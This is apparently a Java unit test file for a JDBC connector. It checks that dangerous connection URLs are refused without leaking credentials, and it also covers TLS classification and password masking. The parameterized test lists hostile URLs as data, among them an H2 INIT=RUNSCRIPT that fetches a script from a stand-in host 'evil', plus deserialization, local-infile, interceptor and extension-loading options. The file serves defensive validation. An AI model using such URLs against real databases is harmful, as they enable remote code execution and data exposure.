package io.windrow.connectors.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.windrow.api.config.Secret;
import io.windrow.api.error.WindrowException;
import io.windrow.connectors.jdbc.sql.JdbcAddress;
import io.windrow.connectors.jdbc.sql.JdbcError;
import java.util.Optional;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a URL may say. */
class AddressTest {
    private static JdbcAddress of(String url) {
        return JdbcAddress.of(Secret.of(url), Optional.empty());
    }

    @ParameterizedTest
    @Tag("H07")
    @ValueSource(strings = {
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "postgres://u:p@h/db?socketFactory=java.io.FileOutputStream",
        "postgres://u:p@h/db?sslfactory=x",
        "postgres://u:p@h/db?loggerFile=/tmp/x",
        "postgres://u:p@h/db?options=-c%20session_preload_libraries=x",
        "mariadb://u:p@h/db?allowLocalInfile=true",
        "mariadb://u:p@h/db?autoDeserialize=true",
        "jdbc:mysql://u:p@h/db?queryInterceptors=x",
        "jdbc:sqlite:x.db?enable_load_extension=true",
        "jdbc:sqlite:file:x.db?vfs=x",
        "jdbc:sqlite::memory:",
        "jdbc:duckdb:x.db;allow_unsigned_extensions=true",
        "postgres://u:p@h:1/a/db",
        "postgres://h/db",
        "postgres://u:p@h/db?sslcert=c.pem&sslkey=k.pk8",
        "nothing"
    })
    void aUrlThatCouldMakeADriverDoMoreIsRefusedWithoutBeingShown(String url) {
        assertThatThrownBy(() -> of(url)).isInstanceOfSatisfying(WindrowException.class, refused -> {
            assertThat(refused.errorCode()).isEqualTo(JdbcError.URL_INVALID);
            assertThat(refused.getMessage()).doesNotContain("u:p").doesNotContain("evil");
        });
    }

    @Test
    void tlsIsVerifiedUnlessTheServerIsThisMachine() {
        assertThat(of("postgres://u:p@db.example.com/x").tls()).isEqualTo(JdbcAddress.Tls.VERIFIED);
        assertThat(of("postgres://u:p@127.0.0.1:5433/x").tls()).isEqualTo(JdbcAddress.Tls.LOCAL);
        assertThat(of("postgres://u:p@db.example.com/x?sslmode=require").tls()).isEqualTo(JdbcAddress.Tls.WEAKENED);
    }

    @Test
    void theAddressShowsNeitherUserNorPassword() {
        JdbcAddress address = of("jdbc:postgresql://reader:s%40cret@db.example.com/orders");
        assertThat(address.driverUrl()).isEqualTo("jdbc:postgresql://db.example.com:5432/orders");
        assertThat(address.toString()).doesNotContain("s@cret").doesNotContain("s%40cret");
        assertThat(address.password().orElseThrow().reveal()).isEqualTo("s@cret");
    }
}
